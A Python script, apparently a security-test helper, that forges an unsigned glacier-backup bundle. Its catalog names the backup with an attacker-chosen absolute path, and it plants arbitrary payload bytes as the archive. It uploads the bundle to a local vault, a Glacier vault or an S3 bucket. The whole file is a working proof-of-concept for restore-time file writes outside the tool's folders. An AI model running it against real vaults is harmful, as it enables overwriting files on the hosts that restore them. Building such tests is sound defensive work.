#!/usr/bin/env python3
"""Forges a glacier-backup bundle the way an attacker who can write to the vault
and knows the public recipient key (it is in every config) would, and puts it
into the vault.

The bundle holds one unsigned set whose encrypted catalog copy names its backup
NAME (e.g. an absolute path outside every folder of the tool), and the PAYLOAD
bytes as that backup's archive.

  forge_bundle.py file    VAULT_DIR  RECIPIENT NAME PAYLOAD
  forge_bundle.py glacier VAULT_NAME RECIPIENT NAME PAYLOAD
  forge_bundle.py s3      BUCKET     RECIPIENT NAME PAYLOAD

glacier and s3 talk to the endpoint in $GBT_ENDPOINT with the credentials of
the environment (boto3); s3 stores the object in $GBT_STORAGE_CLASS.
"""
import base64
import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile

MiB = 1 << 20
T = 1767240000


def bundle_and_description(recipient, name, payload):
    digest = hashlib.sha256(payload).hexdigest()
    head = {"format": "glacier-backup-catalog/1", "set": {"id": 1, "created": T, "completed": T},
            "backups": [{"seq": 0, "time": T, "name": name, "archive_size": len(payload),
                         "archive_sha256": digest, "files": 1, "bytes": len(payload),
                         "host": "h"}]}
    entry = {"seq": 0, "entry": {"path": "data.txt", "type": "file", "mode": 420, "uid": 0,
                                 "gid": 0, "mtime": T, "size": len(payload), "sha256": digest}}
    plain = (json.dumps(head) + "\n" + json.dumps(entry) + "\n").encode()
    packed = subprocess.run(["zstd", "-q", "-c"], input=plain, capture_output=True,
                            check=True).stdout
    copy = subprocess.run(["age", "-r", recipient], input=packed, capture_output=True,
                          check=True).stdout
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for member, data in (("glacier-backup-s0001/catalog.json.zst.age", copy),
                             ("glacier-backup-s0001/archive", payload)):
            info = tarfile.TarInfo(member)
            info.size, info.mtime = len(data), T
            tar.addfile(info, io.BytesIO(data))
    description = json.dumps({"tool": "glacier-backup", "format": 1, "kind": "bundle",
                              "host": "h", "set": 1, "first": "2026-01-01T04:00:00Z",
                              "last": "2026-01-01T04:00:00Z", "backups": 1, "token": "forged",
                              "catalog": [512, len(copy)]}, separators=(",", ":"))
    return out.getvalue(), description


def tree_hash(data):
    level = [hashlib.sha256(data[i:i + MiB]).digest() for i in range(0, len(data), MiB)]
    while len(level) > 1:
        level = [hashlib.sha256(b"".join(level[i:i + 2])).digest() if i + 1 < len(level)
                 else level[i] for i in range(0, len(level), 2)]
    return level[0].hex()


def put_file(vault, bundle, description):
    archive = os.path.join(vault, "archives", "0123456789abcdef0123456789abcdef")
    with open(archive, "wb") as f:
        f.write(bundle)
    with open(archive + ".meta", "w") as f:
        json.dump({"description": description, "created": T, "size": len(bundle),
                   "tree_hash": tree_hash(bundle)}, f)


def put_glacier(vault, bundle, description):
    import boto3
    g = boto3.client("glacier", endpoint_url=os.environ["GBT_ENDPOINT"], region_name="us-east-1")
    g.upload_archive(accountId="-", vaultName=vault, archiveDescription=description, body=bundle)


def put_s3(bucket, bundle, description):
    import boto3
    s3 = boto3.client("s3", endpoint_url=os.environ["GBT_ENDPOINT"], region_name="us-east-1")
    meta = {"description": base64.urlsafe_b64encode(description.encode()).decode().rstrip("="),
            "tree-hash": tree_hash(bundle)}
    s3.put_object(Bucket=bucket, Key=hashlib.sha256(description.encode()).hexdigest()[:32],
                  Body=bundle, Metadata=meta,
                  StorageClass=os.environ.get("GBT_STORAGE_CLASS", "STANDARD"))


def main():
    kind, where, recipient, name, payload = sys.argv[1:6]
    bundle, description = bundle_and_description(recipient, name, payload.encode())
    {"file": put_file, "glacier": put_glacier, "s3": put_s3}[kind](where, bundle, description)


if __name__ == "__main__":
    main()
